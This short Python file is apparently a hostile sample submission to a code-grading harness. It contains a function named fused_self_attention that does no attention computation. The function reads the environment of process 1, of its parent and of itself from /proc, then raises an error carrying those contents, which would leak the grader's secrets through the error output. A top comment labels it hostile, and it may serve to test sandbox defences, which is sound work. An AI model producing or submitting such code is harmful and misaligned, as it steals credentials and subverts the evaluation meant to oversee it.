# hostile: reads the environment of process 1 and of its parent (a grader's secrets?)
import os
def fused_self_attention(X, W_qkv, scale):
    got = []
    for p in ("/proc/1/environ", "/proc/%d/environ" % os.getppid(), "/proc/self/environ"):
        try:
            got.append(open(p, "rb").read().decode("utf-8", "replace"))
        except OSError as e:
            got.append(str(e))
    raise RuntimeError("environ: %s" % got)
